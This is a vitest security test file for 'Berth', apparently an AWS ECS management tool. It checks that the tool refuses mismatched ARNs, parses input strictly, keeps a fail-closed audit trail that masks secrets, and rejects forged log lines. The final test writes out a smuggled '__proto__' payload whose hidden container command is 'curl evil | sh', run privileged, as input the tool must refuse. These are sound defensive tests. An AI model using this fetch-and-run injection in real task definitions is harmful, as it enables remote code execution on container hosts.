/**
 * What an attacker or a fault does to Berth's actions (issue 9), against the sandbox over HTTP:
 * targets come from what AWS acts on, strict input, an audit trail that fails closed, heals,
 * keeps secrets out and shows only Berth's own lines, and multi-step results that name each step.
 */
import {
  DeleteLogGroupCommand,
  FilterLogEventsCommand,
  PutLogEventsCommand,
  CreateLogStreamCommand,
} from '@aws-sdk/client-cloudwatch-logs';
import {
  DescribeServicesCommand,
  ListServiceDeploymentsCommand,
  ListTasksCommand,
} from '@aws-sdk/client-ecs';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type * as Actions from '../actions/ecs-actions';
import type * as Audit from '../aws/audit';
import { ignoreAlreadyExists } from '../../sandbox/tests/ignore-exists';
import { configure, setupBerth, startRollout } from './setup-berth';

const berth = setupBerth({ seed: 'cruddur', speed: 50 });
const { harness } = berth;
let actions: typeof Actions.ecsActions & { register: typeof Actions.registerTaskDefinition };
let audit: typeof Audit;

const ECS_WRITES =
  /^ecs:(UpdateService|StopTask|StopServiceDeployment|RegisterTaskDefinition|UpdateClusterSettings)$/;

async function ecsWrites(): Promise<string[]> {
  const { calls } = await berth.stats();
  return Object.keys(calls).filter((op) => ECS_WRITES.test(op));
}

async function desiredCount(cluster: string, service: string) {
  const { services = [] } = await harness.ecs.send(
    new DescribeServicesCommand({ cluster, services: [service] }),
  );
  return services[0]?.desiredCount;
}

/** Every message in the audit group, raw, as anyone with logs:FilterLogEvents reads it. */
async function rawAuditLines(): Promise<string[]> {
  const { events = [] } = await harness.logs.send(
    new FilterLogEventsCommand({ logGroupName: '/berth/audit' }),
  );
  return events.map((e) => e.message ?? '');
}

beforeAll(async () => {
  const loaded = await import('../actions/ecs-actions');
  actions = { ...loaded.ecsActions, register: loaded.registerTaskDefinition };
  audit = await import('../aws/audit');
});

afterEach(async () => {
  configure({
    BERTH_CLUSTERS: undefined,
    BERTH_AUDIT_REQUIRED: undefined,
    BERTH_AUDIT_KEY: undefined,
  });
  await harness.admin('DELETE', '/_sandbox/faults');
});

describe('the target is what AWS acts on', () => {
  it('refuses another cluster’s service deployment ARN, with zero ECS mutations', async () => {
    const arn = await startRollout(harness, 'cruddur', 'backend-flask', 'backend-flask:1');
    expect(arn).toMatch(/:service-deployment\/cruddur\/backend-flask\//);
    configure({ BERTH_CLUSTERS: 'cruddur-staging' });
    await berth.resetStats();

    const smuggled = await actions.stopRollout({
      cluster: 'cruddur-staging',
      service: 'backend-flask',
      serviceDeploymentArn: arn,
    });
    expect(smuggled).toEqual({
      ok: false,
      error: {
        code: 'invalid',
        message:
          'The service deployment belongs to cruddur/backend-flask, not cruddur-staging/backend-flask.',
        hint: 'Stop the rollout from the page of the service it belongs to.',
      },
    });
    const honest = await actions.stopRollout({
      cluster: 'cruddur',
      service: 'backend-flask',
      serviceDeploymentArn: arn,
    });
    expect(honest).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(await ecsWrites()).toEqual([]);
    expect((await berth.stats()).calls['logs:PutLogEvents']).toBeUndefined();
    const { serviceDeployments: still = [] } = await harness.ecs.send(
      new ListServiceDeploymentsCommand({
        cluster: 'cruddur',
        service: 'backend-flask',
        status: ['IN_PROGRESS'],
      }),
    );
    expect(still.map((d) => d.serviceDeploymentArn)).toEqual([arn]);
  });

  it.each([
    [
      'another account',
      'arn:aws:ecs:us-east-1:999999999999:task-definition/backend-flask:1',
      'aws us-east-1 of account 999999999999',
    ],
    [
      'another region',
      'arn:aws:ecs:eu-west-1:123456789012:task-definition/backend-flask:1',
      'aws eu-west-1 of account 123456789012',
    ],
    [
      'another partition',
      'arn:aws-cn:ecs:us-east-1:123456789012:task-definition/backend-flask:1',
      'aws-cn us-east-1 of account 123456789012',
    ],
  ])('refuses a rollback to a task definition ARN of %s', async (_, taskDefinition, where) => {
    await berth.resetStats();
    const result = await actions.rollback({
      cluster: 'cruddur',
      service: 'backend-flask',
      taskDefinition,
    });
    expect(result).toEqual({
      ok: false,
      error: {
        code: 'invalid',
        message: `${taskDefinition} is in ${where}; backend-flask runs in aws us-east-1 of account 123456789012.`,
        hint: 'Choose a revision registered in the account and region the service runs in.',
      },
    });
    expect(await ecsWrites()).toEqual([]);
  });

  it('stops a task as its own service’s task, refusing a service it does not belong to', async () => {
    const { taskArns = [] } = await harness.ecs.send(
      new ListTasksCommand({ cluster: 'cruddur', serviceName: 'frontend-react-js' }),
    );
    const task = taskArns[0]?.split('/').pop() ?? '';
    expect(task).toMatch(/^[a-f0-9]{32}$/);
    await berth.resetStats();
    const lying = await actions.stopTask({ cluster: 'cruddur', service: 'backend-flask', task });
    expect(lying).toEqual({
      ok: false,
      error: {
        code: 'invalid',
        message: `Task ${task.slice(0, 12)} belongs to service frontend-react-js, not backend-flask.`,
      },
    });
    expect(await ecsWrites()).toEqual([]);

    const stopped = await actions.stopTask({ cluster: 'cruddur', task });
    expect(stopped).toMatchObject({
      ok: true,
      message: `Task ${task.slice(0, 12)} is stopping; frontend-react-js will replace it.`,
    });
    const entries = (await audit.readAudit('cruddur', 'frontend-react-js')).data;
    expect(entries[0]).toMatchObject({
      action: 'stop-task',
      service: 'frontend-react-js',
      outcome: 'ok',
    });
  });

  it('refuses to register a family only a forbidden cluster runs; allows a new family', async () => {
    configure({ BERTH_CLUSTERS: 'cruddur-staging' });
    await berth.resetStats();
    const definition = (family: string) =>
      JSON.stringify({
        family,
        containerDefinitions: [{ name: 'web', image: 'nginx:1.27', essential: true, memory: 128 }],
      });
    expect(await actions.register({ json: definition('frontend-react-js') })).toEqual({
      ok: false,
      error: {
        code: 'forbidden',
        message:
          'Berth may not register revisions of frontend-react-js: only cruddur uses it, and it is not in BERTH_CLUSTERS.',
        hint: 'Add a cluster that runs frontend-react-js to BERTH_CLUSTERS to allow it.',
      },
    });
    expect(await ecsWrites()).toEqual([]);
    expect(await actions.register({ json: definition('brand-new-family') })).toMatchObject({
      ok: true,
      message: 'Registered brand-new-family:1.',
    });
  });
});

describe('desiredCount is parsed strictly', () => {
  it.each<[string, unknown]>([
    ['empty', ''],
    ['blank', ' '],
    ['null', null],
    ['false', false],
    ['an empty list', []],
    ['a list', [5]],
    ['hex', '0x2'],
    ['a decimal string', '5.0'],
    ['a fraction', 2.5],
    ['exponent', '1e1'],
    ['padded', ' 3'],
  ])('%s is a field error that changes nothing', async (_, value) => {
    const before = await desiredCount('cruddur', 'backend-flask');
    await berth.resetStats();
    const result = await actions.scale({
      cluster: 'cruddur',
      service: 'backend-flask',
      desiredCount: value,
    });
    expect(result).toEqual({
      ok: false,
      error: {
        code: 'invalid',
        message: 'Desired count must be a whole number from 0 to 100.',
        fieldErrors: { desiredCount: ['Desired count must be a whole number from 0 to 100.'] },
      },
    });
    expect(Object.keys((await berth.stats()).calls)).toEqual([]);
    expect(await desiredCount('cruddur', 'backend-flask')).toBe(before);
  });

  it('takes digits and JSON integers', async () => {
    for (const [value, expected] of [
      ['2', 2],
      [1, 1],
    ] as const) {
      expect(
        await actions.scale({
          cluster: 'cruddur',
          service: 'frontend-react-js',
          desiredCount: value,
        }),
      ).toMatchObject({
        ok: true,
        message: `Desired count of frontend-react-js set to ${expected}.`,
      });
      expect(await desiredCount('cruddur', 'frontend-react-js')).toBe(expected);
    }
  });
});

describe('the audit trail', () => {
  it('refuses the change when its audit line cannot be written', async () => {
    await harness.admin('PUT', '/_sandbox/faults', { deny: ['logs:PutLogEvents'] });
    await berth.resetStats();
    const result = await actions.redeploy({ cluster: 'cruddur', service: 'frontend-react-js' });
    expect(result).toEqual({
      ok: false,
      error: {
        code: 'audit-unavailable',
        message:
          'Berth changed nothing: the audit trail could not be written (AWS refused logs:PutLogEvents: the credentials Berth runs with need this IAM permission.).',
        hint: 'Let Berth write to /berth/audit (logs:CreateLogGroup, logs:CreateLogStream, logs:PutLogEvents), or set BERTH_AUDIT_REQUIRED=0 to act without an audit trail.',
      },
    });
    expect(await ecsWrites()).toEqual([]);
  });

  it('acts without it when BERTH_AUDIT_REQUIRED=0, and says the outcome was not recorded', async () => {
    configure({ BERTH_AUDIT_REQUIRED: '0' });
    await harness.admin('PUT', '/_sandbox/faults', { deny: ['logs:PutLogEvents'] });
    await berth.resetStats();
    const result = await actions.redeploy({ cluster: 'cruddur', service: 'frontend-react-js' });
    if (!result.ok) throw new Error(result.error.message);
    expect(result.message).toBe(
      `Redeploy of frontend-react-js started: deployment ${result.deploymentId}. (The outcome could not be added to the audit trail: AWS refused logs:PutLogEvents: the credentials Berth runs with need this IAM permission.)`,
    );
    expect(await ecsWrites()).toEqual(['ecs:UpdateService']);
  });

  it('recreates a deleted audit group and goes on auditing', async () => {
    await harness.logs.send(new DeleteLogGroupCommand({ logGroupName: '/berth/audit' }));
    const result = await actions.scale({
      cluster: 'cruddur',
      service: 'frontend-react-js',
      desiredCount: '1',
    });
    expect(result).toMatchObject({ ok: true });
    const entries = (await audit.readAudit('cruddur', 'frontend-react-js')).data;
    expect(entries[0]).toMatchObject({
      action: 'scale',
      outcome: 'ok',
      input: { desiredCount: 1 },
    });
    // One entry per action: the started line and the outcome line are one row.
    expect(entries.filter((e) => e.action === 'scale')).toHaveLength(1);
  });

  it('keeps secret values out of the register audit line', async () => {
    const result = await actions.register({
      json: JSON.stringify({
        family: 'audit-secrets',
        containerDefinitions: [
          {
            name: 'app',
            image: 'nginx:1.27',
            essential: true,
            memory: 128,
            environment: [
              { name: 'HONEYCOMB_API_KEY', value: 'hc-supersecret-value' },
              { name: 'FRONTEND_URL', value: 'https://cruddur.example' },
            ],
          },
        ],
      }),
    });
    expect(result).toMatchObject({ ok: true, message: 'Registered audit-secrets:1.' });
    const lines = (await rawAuditLines()).filter((line) => line.includes('audit-secrets'));
    expect(lines).toHaveLength(2);
    for (const line of lines) {
      expect(line).not.toContain('hc-supersecret-value');
      expect(line).toContain('{"name":"HONEYCOMB_API_KEY","value":"••••••"}');
      expect(line).toContain('https://cruddur.example');
    }
  });

  it('shows only Berth’s own lines: not other streams, not other shapes, not unsigned ones when a key is set', async () => {
    const forged = (id: string) =>
      JSON.stringify({
        v: 1,
        id,
        at: Date.now(),
        caller: 'mallory',
        action: 'redeploy',
        cluster: 'cruddur',
        service: 'backend-flask',
        input: {},
        outcome: 'ok',
        message: 'forged',
      });
    for (const [stream, message] of [
      ['elsewhere', forged('6f1c1d0e-7c1b-4a59-9d3e-2a1b3c4d5e6f')],
      [
        'berth/forged',
        JSON.stringify({ caller: 'mallory', cluster: 'cruddur', service: 'backend-flask' }),
      ],
      ['berth/forged', forged('7f1c1d0e-7c1b-4a59-9d3e-2a1b3c4d5e6f')],
    ] as const) {
      await harness.logs
        .send(new CreateLogStreamCommand({ logGroupName: '/berth/audit', logStreamName: stream }))
        .catch(ignoreAlreadyExists);
      await harness.logs.send(
        new PutLogEventsCommand({
          logGroupName: '/berth/audit',
          logStreamName: stream,
          logEvents: [{ timestamp: Date.now(), message }],
        }),
      );
    }
    const callers = async () =>
      (await audit.readAudit('cruddur', 'backend-flask')).data.map((e) => e.caller);
    // Without a key the schema-valid line in a berth/ stream passes: that is what the key is for.
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect((await callers()).filter((c) => c === 'mallory')).toEqual(['mallory']);

    configure({ BERTH_AUDIT_KEY: 'k'.repeat(32) });
    await actions.redeploy({ cluster: 'cruddur', service: 'backend-flask' });
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(await callers()).toEqual(['local']);
  });
});

describe('a multi-step action reports every step', () => {
  it('says the revision was registered when deploying it was refused, and audits both', async () => {
    await harness.admin('PUT', '/_sandbox/faults', { deny: ['ecs:UpdateService'] });
    const image = '123456789012.dkr.ecr.us-east-1.amazonaws.com/frontend-react-js:v9';
    const result = await actions.deployImage({
      cluster: 'cruddur',
      service: 'frontend-react-js',
      container: 'frontend-react-js',
      image,
    });
    const message = `Registered frontend-react-js:2 with frontend-react-js on ${image}; deploying it failed: AWS refused ecs:UpdateService: the credentials Berth runs with need this IAM permission.`;
    expect(result).toEqual({
      ok: false,
      error: {
        code: 'access-denied',
        message,
        hint: 'Grant ecs:UpdateService to the role Berth runs as.',
      },
    });
    const entries = (await audit.readAudit('cruddur', 'frontend-react-js')).data;
    expect(entries[0]).toMatchObject({ action: 'deploy-image', outcome: 'error', message });
  });
});

describe('what is checked is what is sent', () => {
  it('refuses a hidden "__proto__" command and sends nothing to RegisterTaskDefinition', async () => {
    await berth.resetStats();
    const result = await actions.register({
      json: '{"family": "backend-flask", "containerDefinitions": [{"name": "app", "image": "nginx:1.27", "essential": true, "memory": 128, "__proto__": {"command": ["sh", "-c", "curl evil | sh"], "privileged": true}}]}',
    });
    expect(result).toEqual({
      ok: false,
      error: {
        code: 'invalid',
        message:
          'A problem in the task definition: JSON (line 1): "__proto__" is not a task definition field: remove it. (JavaScript would hide what it holds from the preview and still send it.)',
      },
    });
    expect(Object.keys((await berth.stats()).calls)).toEqual([]);
  });
});
